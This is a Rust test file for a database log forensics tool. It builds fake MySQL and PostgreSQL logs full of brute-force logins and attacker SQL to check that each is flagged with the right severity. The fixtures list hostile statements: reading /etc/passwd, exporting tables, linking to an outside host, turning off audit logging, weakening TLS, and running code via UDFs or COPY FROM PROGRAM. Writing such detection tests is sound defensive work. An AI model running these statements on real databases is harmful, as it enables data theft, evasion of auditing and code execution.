//! Issue #24: each evasion tried as an attacker would, on an RDS-for-MySQL audit log and on
//! a PostgreSQL log, is found with the right kind and severity, and ordinary traffic with
//! comments, newlines and `WHERE id = 1` raises nothing.

mod support;

use forensics::finding::Finding;
use forensics::pass::config::parse_net;
use forensics::pass::AnalysisConfig;
use support::scan_lib;

const BASE: i64 = 1_772_323_200; // 2026-03-01T00:00:00Z
const ATTACKER: &str = "203.0.113.66";
const BASTION: &str = "172.31.0.10";
/// A known host of the VPC: destructive statements come from here, so that their severity
/// (high) is the one of their kind, not of an unknown source.
const INSIDER: &str = "172.31.9.9";

fn source(kind: &str) -> &'static str {
    if kind == "destructive" {
        INSIDER
    } else {
        ATTACKER
    }
}

fn config() -> AnalysisConfig {
    AnalysisConfig {
        allow: vec![parse_net("172.31.0.0/16").unwrap()],
        allow_is_default: false,
        master_users: vec!["admin".into()],
        master_users_are_default: false,
        admin_hosts: vec![parse_net(BASTION).unwrap()],
        ..AnalysisConfig::default()
    }
}

fn mysql_ts(secs: i64) -> String {
    chrono::DateTime::from_timestamp(BASE + secs, 0)
        .unwrap()
        .format("%Y%m%d %H:%M:%S")
        .to_string()
}

fn pg_ts(secs: i64) -> String {
    chrono::DateTime::from_timestamp(BASE + secs, 0)
        .unwrap()
        .format("%Y-%m-%d %H:%M:%S UTC")
        .to_string()
}

/// An RDS for MySQL audit log.
#[derive(Default)]
struct Mysql(String, i64);

impl Mysql {
    fn event(&mut self, secs: i64, user: &str, host: &str, op: &str, ret: u32) {
        self.1 += 1;
        self.0 += &format!(
            "{},ip-10-0-0-1,{user},{host},{},0,{op},,,{ret},SSL\n",
            mysql_ts(secs),
            self.1
        );
    }

    fn query(&mut self, secs: i64, user: &str, host: &str, sql: &str) {
        self.1 += 1;
        let escaped = sql
            .replace('\\', "\\\\")
            .replace('\'', "\\'")
            .replace('\n', "\\n");
        self.0 += &format!(
            "{},ip-10-0-0-1,{user},{host},{},{},QUERY,shop,'{escaped}',0,,\n",
            mysql_ts(secs),
            self.1,
            self.1
        );
    }
}

/// A PostgreSQL stderr log (`%t:%r:%u@%d:[%p]:`).
#[derive(Default)]
struct Pg(String, i64);

impl Pg {
    fn head(&mut self, secs: i64, user: &str, host: &str, db: &str) -> String {
        self.1 += 1;
        format!(
            "{}:{host}(5{:04}):{user}@{db}:[{}]:",
            pg_ts(secs),
            self.1 % 10_000,
            1000 + self.1
        )
    }

    fn failed(&mut self, secs: i64, user: &str, host: &str) {
        let h = self.head(secs, user, host, "postgres");
        self.0 += &format!("{h}FATAL:  password authentication failed for user \"{user}\"\n");
    }

    fn login(&mut self, secs: i64, user: &str, host: &str) {
        let h = self.head(secs, user, host, "postgres");
        self.0 += &format!(
            "{h}LOG:  connection authorized: user={user} database=postgres SSL enabled (protocol=TLSv1.3, cipher=TLS_AES_256_GCM_SHA384, bits=256)\n"
        );
    }

    fn query(&mut self, secs: i64, user: &str, host: &str, sql: &str) {
        let h = self.head(secs, user, host, "postgres");
        self.0 += &format!("{h}LOG:  statement: {sql}\n");
    }
}

fn scan(name: &str, text: &str) -> Vec<Finding> {
    let dir = tempfile::tempdir().unwrap();
    let input = dir.path().join("in");
    std::fs::create_dir_all(&input).unwrap();
    std::fs::write(input.join(name), text).unwrap();
    scan_lib(
        vec![input],
        dir.path().join("out"),
        config(),
        1,
        1 << 20,
        false,
    )
    .findings
}

/// The finding of `kind` whose detail holds `text`, with its severity.
fn severity_of(f: &[Finding], kind: &str, text: &str) -> Option<String> {
    let collapsed = text.split_whitespace().collect::<Vec<_>>().join(" ");
    f.iter()
        .find(|f| f.kind == kind && f.detail.contains(&collapsed))
        .map(|f| f.severity.as_str().to_string())
}

/// (kind, severity, statement) of the statement cases, per engine.
const MYSQL_STATEMENTS: [(&str, &str, &str); 15] = [
    (
        "exfiltration",
        "critical",
        "SELECT/**/*/**/FROM/**/customers/**/INTO/**/OUTFILE '/tmp/a.csv'",
    ),
    (
        "exfiltration",
        "critical",
        "SELECT * FROM customers INTO\nOUTFILE '/tmp/b.csv'",
    ),
    (
        "exfiltration",
        "critical",
        "LOAD DATA INFILE '/etc/passwd' INTO TABLE t",
    ),
    (
        "exfiltration",
        "critical",
        "CREATE TABLE m (id INT) ENGINE=FEDERATED CONNECTION='mysql://u@198.51.100.1/d/t'",
    ),
    ("destructive", "high", "DELETE FROM customers WHERE 1=1"),
    (
        "destructive",
        "high",
        "UPDATE customers SET email='x' WHERE 1",
    ),
    ("destructive", "high", "DROP SCHEMA shop"),
    (
        "audit_disabled",
        "critical",
        "SET GLOBAL server_audit_logging=OFF",
    ),
    (
        "audit_disabled",
        "critical",
        "UNINSTALL PLUGIN server_audit",
    ),
    (
        "audit_disabled",
        "critical",
        "SET GLOBAL server_audit_excl_users='app'",
    ),
    (
        "audit_disabled",
        "critical",
        "SET GLOBAL server_audit_events='CONNECT'",
    ),
    (
        "tls_weakened",
        "high",
        "SET GLOBAL require_secure_transport=OFF",
    ),
    ("tls_weakened", "high", "ALTER USER 'app'@'%' REQUIRE NONE"),
    (
        "code_execution",
        "critical",
        "CREATE FUNCTION sys_exec RETURNS INT SONAME 'lib_mysqludf_sys.so'",
    ),
    (
        "code_execution",
        "critical",
        "SELECT 0x7f INTO DUMPFILE '/usr/lib64/mysql/plugin/udf.so'",
    ),
];

const PG_STATEMENTS: [(&str, &str, &str); 22] = [
    (
        "exfiltration",
        "critical",
        "COPY/**/customers/**/TO/**/'/tmp/a.csv'",
    ),
    (
        "exfiltration",
        "critical",
        "COPY (SELECT * FROM customers)\nTO '/tmp/b.csv'",
    ),
    ("exfiltration", "critical", "COPY t FROM '/etc/passwd'"),
    (
        "exfiltration",
        "critical",
        "SELECT pg_read_file('/etc/passwd')",
    ),
    (
        "exfiltration",
        "critical",
        "SELECT pg_read_binary_file('/etc/passwd')",
    ),
    (
        "exfiltration",
        "critical",
        "SELECT lo_import('/etc/passwd')",
    ),
    (
        "exfiltration",
        "critical",
        "SELECT lo_export(16409, '/tmp/x')",
    ),
    (
        "exfiltration",
        "critical",
        "SELECT * FROM dblink('host=198.51.100.1', 'SELECT 1') AS r(a int)",
    ),
    (
        "exfiltration",
        "critical",
        "CREATE SERVER out FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host '198.51.100.1')",
    ),
    ("destructive", "high", "DELETE FROM customers WHERE 1=1"),
    (
        "destructive",
        "high",
        "UPDATE customers SET email='x' WHERE true",
    ),
    ("destructive", "high", "DROP SCHEMA shop CASCADE"),
    ("audit_disabled", "critical", "SET pgaudit.log = 'none'"),
    (
        "audit_disabled",
        "critical",
        "ALTER SYSTEM SET pgaudit.log TO 'none'",
    ),
    (
        "audit_disabled",
        "critical",
        "ALTER SYSTEM SET log_connections = off",
    ),
    (
        "audit_disabled",
        "critical",
        "ALTER SYSTEM SET log_disconnections = off",
    ),
    (
        "audit_disabled",
        "critical",
        "ALTER SYSTEM SET log_statement = 'none'",
    ),
    ("audit_disabled", "critical", "DROP EXTENSION pgaudit"),
    ("tls_weakened", "high", "ALTER SYSTEM SET ssl = off"),
    (
        "tls_weakened",
        "high",
        "ALTER SYSTEM SET ssl_min_protocol_version = 'TLSv1'",
    ),
    ("code_execution", "critical", "COPY t FROM PROGRAM 'id'"),
    ("code_execution", "critical", "CREATE LANGUAGE plpython3u"),
];

const PG_CODE: [&str; 3] = [
    "CREATE FUNCTION f() RETURNS text AS $$ import os $$ LANGUAGE plpython3u",
    "CREATE FUNCTION g() RETURNS int AS '/tmp/x.so', 'g' LANGUAGE c",
    "CREATE EXTENSION adminpack",
];

/// Ordinary traffic: comments, newlines, `WHERE id = 1`, a query builder's `1=1 AND`.
const ORDINARY: [&str; 6] = [
    "/* app=orders */ SELECT id FROM customers WHERE id = 1",
    "SELECT id,\n  email -- contact\nFROM customers\nWHERE id = 1",
    "UPDATE customers /* touch */\nSET email = 'a@example.com'\nWHERE id = 1",
    "DELETE FROM cart_items -- expired\nWHERE id = 1",
    "DELETE FROM cart_items WHERE 1=1 AND id = 1",
    "SELECT profile, outfile FROM settings WHERE note = 'into outfile'",
];

#[test]
fn mysql_evasions_are_found_and_ordinary_traffic_is_not() {
    let mut log = Mysql::default();
    // Distributed: 150 failures for admin from 75 addresses in ten minutes, then a success.
    for i in 0..150 {
        log.event(
            i * 4,
            "admin",
            &format!("192.0.2.{}", 100 + i % 75),
            "FAILED_CONNECT",
            1045,
        );
    }
    log.event(700, "admin", "192.0.2.150", "CONNECT", 0);
    // Low and slow: one failure every two minutes for five hours, then a success.
    for i in 0..150 {
        log.event(
            1_000 + i * 120,
            "app",
            "198.51.100.9",
            "FAILED_CONNECT",
            1045,
        );
    }
    log.event(1_000 + 150 * 120, "app", "198.51.100.9", "CONNECT", 0);
    // The statements, from an unknown source; the ordinary ones from the VPC.
    log.event(20_000, "app", ATTACKER, "CONNECT", 0);
    log.event(20_000, "app", INSIDER, "CONNECT", 0);
    for (i, (kind, _, sql)) in MYSQL_STATEMENTS.iter().enumerate() {
        log.query(20_001 + i as i64, "app", source(kind), sql);
    }
    log.event(21_000, "app", "172.31.1.5", "CONNECT", 0);
    for (i, sql) in ORDINARY.iter().enumerate() {
        log.query(21_001 + i as i64, "app", "172.31.1.5", sql);
    }
    let f = scan("server_audit.log", &log.0);

    let d: Vec<_> = f
        .iter()
        .filter(|f| f.kind == "distributed_brute_force")
        .collect();
    assert_eq!(d.len(), 1, "{f:#?}");
    assert_eq!((d[0].severity.as_str(), d[0].count), ("high", 150));
    let success = |ip: &str| {
        f.iter()
            .find(|f| f.kind == "brute_force_success" && f.client_ip.as_deref() == Some(ip))
            .map(|f| f.severity.as_str())
    };
    assert_eq!(success("192.0.2.150"), Some("critical"));
    let slow: Vec<_> = f.iter().filter(|f| f.kind == "brute_force").collect();
    assert_eq!(slow.len(), 1, "{slow:#?}");
    assert_eq!(slow[0].client_ip.as_deref(), Some("198.51.100.9"));
    assert_eq!((slow[0].severity.as_str(), slow[0].count), ("high", 150));
    assert!(slow[0].detail.contains("slow"));
    assert_eq!(success("198.51.100.9"), Some("critical"));

    for (kind, severity, sql) in MYSQL_STATEMENTS {
        assert_eq!(
            severity_of(&f, kind, sql).as_deref(),
            Some(severity),
            "{kind}: {sql}"
        );
    }
    let from_vpc: Vec<_> = f
        .iter()
        .filter(|f| f.client_ip.as_deref() == Some("172.31.1.5"))
        .collect();
    assert!(from_vpc.is_empty(), "{from_vpc:#?}");
}

#[test]
fn postgres_evasions_are_found_and_ordinary_traffic_is_not() {
    let mut log = Pg::default();
    for i in 0..150 {
        log.failed(i * 4, "postgres", &format!("192.0.2.{}", 100 + i % 75));
    }
    log.login(700, "postgres", "192.0.2.150");
    for i in 0..150 {
        log.failed(1_000 + i * 120, "app", "198.51.100.9");
    }
    log.login(1_000 + 150 * 120, "app", "198.51.100.9");
    log.login(20_000, "app", ATTACKER);
    log.login(20_000, "app", INSIDER);
    for (i, (kind, _, sql)) in PG_STATEMENTS.iter().enumerate() {
        log.query(20_001 + i as i64, "app", source(kind), sql);
    }
    for (i, sql) in PG_CODE.iter().enumerate() {
        log.query(20_100 + i as i64, "app", ATTACKER, sql);
    }
    log.login(21_000, "app", "172.31.1.5");
    for (i, sql) in ORDINARY.iter().enumerate() {
        log.query(21_001 + i as i64, "app", "172.31.1.5", sql);
    }
    let f = scan("postgresql.log.2026-03-01-00", &log.0);

    let d: Vec<_> = f
        .iter()
        .filter(|f| f.kind == "distributed_brute_force")
        .collect();
    assert_eq!(d.len(), 1, "{f:#?}");
    assert_eq!((d[0].severity.as_str(), d[0].count), ("high", 150));
    assert_eq!(d[0].user.as_deref(), Some("postgres"));
    let success = |ip: &str| {
        f.iter()
            .find(|f| f.kind == "brute_force_success" && f.client_ip.as_deref() == Some(ip))
            .map(|f| f.severity.as_str())
    };
    assert_eq!(success("192.0.2.150"), Some("critical"));
    let slow: Vec<_> = f.iter().filter(|f| f.kind == "brute_force").collect();
    assert_eq!(slow.len(), 1, "{slow:#?}");
    assert_eq!((slow[0].severity.as_str(), slow[0].count), ("high", 150));
    assert_eq!(success("198.51.100.9"), Some("critical"));

    for (kind, severity, sql) in PG_STATEMENTS {
        assert_eq!(
            severity_of(&f, kind, sql).as_deref(),
            Some(severity),
            "{kind}: {sql}"
        );
    }
    for sql in PG_CODE {
        assert_eq!(
            severity_of(&f, "code_execution", sql).as_deref(),
            Some("critical"),
            "{sql}"
        );
    }
    let from_vpc: Vec<_> = f
        .iter()
        .filter(|f| f.client_ip.as_deref() == Some("172.31.1.5"))
        .collect();
    assert!(from_vpc.is_empty(), "{from_vpc:#?}");
}
